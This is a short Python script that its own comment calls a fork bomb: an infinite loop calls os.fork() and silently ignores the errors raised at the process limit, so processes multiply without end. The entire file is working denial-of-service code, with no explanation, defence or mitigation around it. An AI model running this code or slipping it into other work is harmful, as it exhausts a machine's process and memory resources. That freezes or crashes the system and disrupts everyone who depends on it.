# Fork bomb: every process forks forever, ignoring the errors at the process limit.
import os
while True:
  try:
    os.fork()
  except OSError:
    pass
